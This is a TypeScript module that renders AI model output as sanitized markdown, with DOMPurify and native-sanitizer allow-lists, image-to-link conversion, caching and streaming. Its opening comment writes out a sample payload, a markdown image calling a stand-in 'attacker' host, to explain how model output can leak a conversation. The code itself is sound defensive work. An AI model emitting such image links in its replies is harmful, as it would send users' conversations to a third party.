// Model output is untrusted. Markdown is rendered with marked, raw HTML in it
// is shown as text, images become links (a markdown image is a known way to
// send the conversation to a third-party host: ![](https://attacker/?q=…)),
// and DOMPurify sanitizes the result: no scripts, no event handlers, links only
// to https: and mailto:, opened with rel="noopener noreferrer".
import DOMPurify from 'dompurify';
import { Marked, type Tokens } from 'marked';
import { BlockSplitter, type Block } from './block-splitter';
import { whenIdle, type IdleDeadline } from '../idle';

const ESCAPES: Record<string, string> = { '&': '&amp;', '<': '&lt;', '>': '&gt;', '"': '&quot;', "'": '&#39;' };
export function escapeHtml(text: string): string {
  return text.replace(/[&<>"']/g, (c) => ESCAPES[c]!);
}

const SAFE_URL = /^(?:https:|mailto:)/i;

/** A code block, plain: it is highlighted after it is shown, in the highlight worker (highlight-queue.ts). */
function codeBlock(text: string, lang: string | undefined): string {
  const language = (lang ?? '').trim().split(/\s+/)[0]!.toLowerCase().replace(/[^a-z0-9+#_-]/g, '');
  const body = escapeHtml(text);
  return (
    `<div class="code-block"><div class="code-head"><span class="code-lang">${escapeHtml(language || 'text')}</span>` +
    `<button type="button" class="copy-code" aria-label="Copy code">Copy</button></div>` +
    // Long lines scroll sideways inside the block; tabindex lets the keyboard scroll it too.
    `<pre tabindex="0"><code class="hljs${language ? ` language-${language}` : ''}">${body}</code></pre></div>`
  );
}

function createMarked(): Marked {
  return new Marked({
    gfm: true,
    async: false,
    renderer: {
      // Raw HTML from the model is shown, never parsed.
      html(token: Tokens.HTML | Tokens.Tag) {
        return escapeHtml(token.text);
      },
      // Remote images would load by themselves; show a link the user can choose to open.
      image(token: Tokens.Image) {
        const label = escapeHtml(token.text || 'image');
        if (!SAFE_URL.test(token.href)) return `[${label}]`;
        // Where the link goes is shown before the click: an image link is a known way to send text to a third party.
        let where = '';
        try {
          where = new URL(token.href).host;
        } catch {
          return `[${label}]`;
        }
        return `<a class="image-link" href="${escapeHtml(token.href)}">🖼 ${label}</a> <span class="link-host">(${escapeHtml(where || token.href.split(':')[0]!)})</span>`;
      },
      code(token: Tokens.Code) {
        return codeBlock(token.text, token.lang);
      },
    },
  });
}

const plain = createMarked();

/** The app's rules beyond the allow-list, for one element that passed it. Returns false when it must go. */
function enforceRules(node: Element): boolean {
  // Inputs exist only as task-list checkboxes.
  if (node.tagName === 'INPUT' && (node.getAttribute('type') !== 'checkbox' || !node.hasAttribute('disabled'))) return false;
  if (node.tagName === 'A') {
    const href = node.getAttribute('href');
    if (href === null || !SAFE_URL.test(href)) node.removeAttribute('href');
    node.setAttribute('target', '_blank');
    node.setAttribute('rel', 'noopener noreferrer nofollow');
  }
  return true;
}

let hooksInstalled = false;
function installHooks(): void {
  if (hooksInstalled) return;
  hooksInstalled = true;
  DOMPurify.addHook('afterSanitizeAttributes', (node) => {
    if (node instanceof Element && !enforceRules(node)) node.remove();
  });
}

const ALLOWED_TAGS = [
  'a', 'p', 'br', 'hr', 'strong', 'em', 'del', 's', 'code', 'pre', 'blockquote', 'ul', 'ol', 'li', 'h1', 'h2', 'h3', 'h4', 'h5', 'h6',
  'table', 'thead', 'tbody', 'tr', 'th', 'td', 'span', 'div', 'button', 'input', 'sup', 'sub',
];
const ALLOWED_ATTR = ['href', 'title', 'class', 'type', 'aria-label', 'align', 'start', 'checked', 'disabled', 'colspan', 'rowspan', 'tabindex'];

const PURIFY_CONFIG = {
  ALLOWED_TAGS,
  ALLOWED_ATTR,
  ALLOWED_URI_REGEXP: SAFE_URL,
  // DOMPurify checks every attribute not known as URI-safe against ALLOWED_URI_REGEXP, which
  // would strip `start="17"` (an ordered list's first number), table alignment and the copy
  // button's label: these hold no URL.
  ADD_URI_SAFE_ATTR: ALLOWED_ATTR.filter((a) => a !== 'href'),
  ALLOW_DATA_ATTR: false,
  // Task-list checkboxes only; no other form controls.
  FORBID_CONTENTS: ['script', 'style', 'template', 'noscript', 'iframe', 'object', 'svg', 'math'],
};

export function sanitize(html: string): string {
  installHooks();
  return DOMPurify.sanitize(html, PURIFY_CONFIG);
}

// The browser's own HTML sanitizer (the HTML Sanitizer API's Element.setHTML, in Chromium and
// Firefox), where there is one: the same allow-list, then the same rules (enforceRules), parsed
// and sanitized in one pass by the browser; about 3× faster than DOMPurify's walk in script,
// which was most of a streaming frame. setHTML always removes scripts, event handlers and
// javascript: URLs, whatever the allow-list says. Elsewhere, DOMPurify.
type SetHTML = (html: string, options: { sanitizer: unknown }) => void;
const SanitizerApi = (globalThis as { Sanitizer?: new (config: { elements: string[]; attributes: string[] }) => unknown }).Sanitizer;
let nativeSanitizer: unknown;
function native(): unknown {
  if (nativeSanitizer === undefined) {
    const supported = SanitizerApi !== undefined && typeof Element !== 'undefined' && typeof (Element.prototype as Element & { setHTML?: SetHTML }).setHTML === 'function';
    nativeSanitizer = supported ? new SanitizerApi({ elements: ALLOWED_TAGS, attributes: ALLOWED_ATTR }) : null;
  }
  return nativeSanitizer;
}

/** Markdown's HTML as sanitized DOM nodes of this document (for the streaming view: no string to parse again). */
function sanitizedNodes(html: string): DocumentFragment {
  const sanitizer = native();
  if (sanitizer) {
    // Parsed into an inert fragment and sanitized before anything is created in this document.
    const holder = document.createElement('div');
    (holder as unknown as { setHTML: SetHTML }).setHTML(html, { sanitizer });
    for (const node of holder.querySelectorAll('a, input')) if (!enforceRules(node)) node.remove();
    const fragment = document.createDocumentFragment();
    fragment.append(...holder.childNodes);
    return fragment;
  }
  installHooks();
  return DOMPurify.sanitize(html, { ...PURIFY_CONFIG, RETURN_DOM_FRAGMENT: true });
}

/** Finished messages rendered lately: switching back to a conversation does not parse it again. */
const rendered = new Map<string, string>();
const RENDERED_KEPT = 2000;

/** A whole finished message (or one finished block) as sanitized HTML. */
export function renderMarkdown(text: string): string {
  return sanitize(plain.parse(text) as string);
}

/**
 * A finished message, plain (its code is highlighted afterwards, in the highlight worker),
 * from the cache when it was rendered lately. Streaming text does not go
 * through here: its ever-growing tails would push the messages out.
 */
export function renderMessage(text: string): string {
  const cached = rendered.get(text);
  return cached ?? remember(text, renderMarkdown(text));
}

function remember(text: string, html: string): string {
  if (rendered.size >= RENDERED_KEPT) rendered.delete(rendered.keys().next().value!);
  rendered.set(text, html);
  return html;
}

/** Work a slice of the finished render may take before the page gets the thread back. */
const SLICE_MS = 8;
/** A longer list is rendered and sanitized this many items at a time (a 500-item list whole: about 40 ms). */
const LIST_GROUP = 25;

/**
 * Renders a finished message into the cache a few blocks at a time, the page
 * free between slices, so that showing it (renderMessage) then parses
 * nothing: a long reply ends without one long task. The same HTML as
 * renderMarkdown: the text is lexed whole (reference links, loose lists),
 * then its top-level blocks are rendered and sanitized in turn, a long list
 * a group of items at a time.
 */
export async function renderMessageInSlices(text: string, nextTask: () => Promise<void> = () => new Promise((r) => setTimeout(r, 0))): Promise<void> {
  if (rendered.has(text)) return;
  const pieces = plain.lexer(text).flatMap(blockPieces);
  let html = '';
  let i = 0;
  while (i < pieces.length) {
    await nextTask();
    const started = performance.now();
    do {
      const piece = pieces[i++]!();
      // Not in the expected shape: nothing is cached, and the message is rendered whole when shown.
      if (piece === null) return;
      html += piece;
    } while (i < pieces.length && performance.now() - started < SLICE_MS);
  }
  remember(text, html);
}

type Token = ReturnType<typeof plain.lexer>[number];

/** One top-level block as steps that each give a part of its sanitized HTML, in order (null: not in pieces). */
function blockPieces(token: Token): (() => string | null)[] {
  const whole = () => sanitize(plain.parser([token]) as string);
  if (token.type !== 'list' || (token as Tokens.List).items.length <= LIST_GROUP) return [whole];
  const list = token as Tokens.List;
  // marked writes a list as its opening tag and a newline, each item's <li>…</li> and newline, then the
  // closing tag: a group of items rendered (and sanitized) as a list of its own holds the same items.
  const shell = sanitize(plain.parser([{ ...list, items: [] }]) as string);
  const close = shell.lastIndexOf('</');
  if (close <= 0) return [whole];
  const open = shell.slice(0, close);
  const groups: (() => string | null)[] = [];
  for (let from = 0; from < list.items.length; from += LIST_GROUP) {
    const items = list.items.slice(from, from + LIST_GROUP);
    groups.push(() => {
      const part = sanitize(plain.parser([{ ...list, items }]) as string);
      return part.startsWith(open) ? part.slice(open.length, part.lastIndexOf('</')) : null;
    });
  }
  return [() => open, ...groups, () => shell.slice(close)];
}

/**
 * The open end of a streaming reply: markdown rendered as sanitized nodes, or code whose fence is
 * still open. Markdown's nodes are parsed when first read: when all that changed since the tail
 * given out before is plain text at its end (`appended`, see plainAppend), a view whose DOM ends
 * in that tail's last characters appends the text there and never reads them.
 */
export type StreamTail =
  | { kind: 'html'; readonly nodes: DocumentFragment; continued: boolean; appended?: { text: string; before: string } }
  | { kind: 'code'; lang: string; text: string };

/** A finished block of a streaming reply as sanitized nodes (parsed when first read); `cut` and `continued` as in block-splitter.ts. */
export interface StreamBlock {
  readonly nodes: DocumentFragment;
  cut: boolean;
  continued: boolean;
  /** A fenced code block on its own, unindented: its info string and code, which a view that streamed it already shows. */
  code: { lang: string; text: string } | null;
  /** Its nodes were read (parsed and sanitized) already. */
  readonly parsed: boolean;
}

/** An open code block's text only grows, so a view can append to it instead of re-rendering it. */
export function codeBlockShell(lang: string): string {
  return codeBlock('', lang);
}

/**
 * A reply in progress: finished blocks are parsed once, when taken, and only
 * the open tail is rendered again, so the cost per chunk stays flat however
 * long the reply grows. Blocks wait unparsed until a view takes them, so a
 * view can take in a frame only what the frame has room for (stream-view.ts).
 */
export class StreamingMarkdown {
  private readonly splitter = new BlockSplitter();
  /** Finished blocks not taken yet (parsed when first read), with their lines. */
  private readonly waiting: { block: StreamBlock; lines: number }[] = [];
  private next = 0;
  /** The markdown tail last given out (null: none, or code), for plainAppend. */
  private shown: string | null = null;

  /** Feeds a chunk; the blocks it finishes wait to be taken. */
  write(chunk: string): void {
    for (const block of this.splitter.push(chunk)) this.waiting.push({ block: streamBlock(block), lines: lineCount(block.text) });
  }

  /** Finished blocks wait to be taken: the tail is not next yet. */
  get behind(): boolean {
    return this.next < this.waiting.length;
  }

  /**
   * The waiting blocks the next take(maxLines, ready) takes, not taken: the first, then the next
   * ones while they are `ready` and add up to at most `maxLines` lines. A view may parse them (read
   * `nodes`) before the frame that takes them, in a task of their own.
   */
  upcoming(maxLines = Infinity, ready: (block: StreamBlock) => boolean = () => true): StreamBlock[] {
    const blocks: StreamBlock[] = [];
    let lines = 0;
    for (let i = this.next; i < this.waiting.length; i++) {
      const { block, lines: more } = this.waiting[i]!;
      lines += more;
      if (blocks.length > 0 && (lines > maxLines || !ready(block))) break;
      blocks.push(block);
    }
    return blocks;
  }

  /**
   * Takes the waiting blocks upcoming(maxLines, ready) gives; the open tail comes with them only
   * once no block waits (it follows the last of them).
   */
  take(maxLines = Infinity, ready?: (block: StreamBlock) => boolean): { blocks: StreamBlock[]; tail: StreamTail | null } {
    const blocks = this.upcoming(maxLines, ready);
    this.next += blocks.length;
    if (this.next === this.waiting.length) {
      this.waiting.length = 0;
      this.next = 0;
    }
    if (this.behind) {
      this.shown = null;
      return { blocks, tail: null };
    }
    return { blocks, tail: this.currentTail(blocks.length === 0 ? this.shown : null) };
  }

  /** Feeds a chunk and takes everything: the blocks it finished and the open tail. */
  push(chunk: string): { blocks: StreamBlock[]; tail: StreamTail } {
    this.write(chunk);
    return this.take() as { blocks: StreamBlock[]; tail: StreamTail };
  }

  /** Ends the stream: the blocks still waiting, then whatever is open, as finished blocks. */
  finish(): StreamBlock[] {
    const { blocks } = this.take();
    return [...blocks, ...this.splitter.flush().map(streamBlock)];
  }

  /** The open tail, noted as the one given out; `before`: the markdown tail given out last, when nothing was taken since. */
  private currentTail(before: string | null): StreamTail {
    const tail = this.splitter.tail;
    this.shown = this.splitter.inCode ? null : tail;
    // An open code block: the code as text so far (highlighted once it closes).
    if (this.splitter.inCode) {
      const newline = tail.indexOf('\n');
      const fence = newline < 0 ? tail : tail.slice(0, newline);
      let text = newline < 0 ? '' : tail.slice(newline + 1);
      // A last line of only the fence's character may be the closing fence, still arriving: it is shown
      // once it is more (the text shown still only grows), never as code (so a view can keep its block).
      const partial = text.slice(text.lastIndexOf('\n') + 1);
      if (partial !== '' && partial === fence.trim()[0]!.repeat(partial.length)) text = text.slice(0, text.length - partial.length);
      return { kind: 'code', lang: fence.replace(/^\s*(`{3,}|~{3,})/, ''), text };
    }
    let nodes: DocumentFragment | undefined;
    const appended = before === null ? null : plainAppend(before, tail);
    return {
      kind: 'html',
      continued: this.splitter.tailContinues,
      ...(appended === null || before === null ? {} : { appended: { text: appended, before } }),
      get nodes() {
        return (nodes ??= streamNodes(tail));
      },
    };
  }
}

/** Text that no markdown or HTML syntax can use: letters, digits, spaces and plain punctuation. */
const PLAIN = /^[\p{L}\p{N} ,.;:?'"%]*$/u;
/** What a GFM autolink starts with: plain characters after it may join it (its trailing punctuation is left out only at its end). */
const AUTOLINK = /www\.|:\/\/|@/i;
/** What may open a line before its text: list markers, quote markers and their spaces. */
const LINE_MARKERS = /^(?:\s*(?:[-*+]|\d{1,9}[.)]|>)(?=\s|$))*\s*/;

/**
 * When `after` is `before` and plain text at the end of its last line, that text, else null.
 * The render of `after` is then the render of `before` with that text appended to the last text
 * node, provided that node shows `before`'s last characters as they are (the view checks this:
 * TailView.show): plain text opens no emphasis, link, code or entity, and ends none; and no line
 * break comes, so no block begins or changes. The last line must already hold a letter after its
 * markers: digits alone may become an ordered list's marker ("1" then "." then " x"), spaces alone
 * an indented code block; a line opening with "<" or "[" may be an HTML block or a link's
 * definition only while it stays as it is ("<span>", "[a]:"). A GFM autolink is made of plain
 * characters ("www.example.com") and leaves out its trailing punctuation only at its end: a line
 * with one is left to the full render.
 */
export function plainAppend(before: string, after: string): string | null {
  if (after.length <= before.length || !after.startsWith(before)) return null;
  const text = after.slice(before.length);
  if (!PLAIN.test(text)) return null;
  const line = after.slice(after.lastIndexOf('\n') + 1);
  const shown = before.slice(before.lastIndexOf('\n') + 1).replace(LINE_MARKERS, '');
  if (!/\p{L}/u.test(shown) || /^[<[]/.test(shown) || AUTOLINK.test(line)) return null;
  return text;
}

function lineCount(text: string): number {
  let lines = 1;
  for (let at = text.indexOf('\n'); at >= 0; at = text.indexOf('\n', at + 1)) lines++;
  return lines;
}

const OPENING_FENCE = /^(`{3,}|~{3,})([^\n]*)\n/;

function streamBlock({ text, cut, continued }: Block): StreamBlock {
  let nodes: DocumentFragment | undefined;
  return {
    cut,
    continued,
    code: closedCode(text),
    get nodes() {
      return (nodes ??= streamNodes(text));
    },
    get parsed() {
      return nodes !== undefined;
    },
  };
}

/** The code of a block that is one unindented fenced code block, opening fence to closing fence (whose lines marked keeps as they are). */
function closedCode(text: string): { lang: string; text: string } | null {
  const open = OPENING_FENCE.exec(text);
  // A backtick fence's info string holds no backtick (else the line is not a fence).
  if (!open || (open[1]![0] === '`' && open[2]!.includes('`'))) return null;
  const close = text.lastIndexOf('\n');
  const fence = text.slice(close + 1);
  if (fence.length < open[1]!.length || fence !== open[1]![0]!.repeat(fence.length)) return null;
  return { lang: open[2]!, text: text.slice(open[0].length, close + 1) };
}

/** Streaming text is rendered plain: its code is highlighted after, in the highlight worker (highlight-queue.ts). */
function streamNodes(text: string): DocumentFragment {
  return text === '' ? document.createDocumentFragment() : sanitizedNodes(plain.parse(text) as string);
}

/**
 * Renders texts into the cache while the page is idle, so the messages a
 * reader is about to scroll to cost no parsing when they appear. Returns a
 * function that stops it.
 */
export function renderWhenIdle(texts: string[]): () => void {
  let next = 0;
  let cancel = () => {};
  const work = (deadline: IdleDeadline) => {
    while (next < texts.length && deadline.timeRemaining() > 2) renderMessage(texts[next++]!);
    if (next < texts.length) cancel = whenIdle(work);
  };
  cancel = whenIdle(work);
  return () => cancel();
}
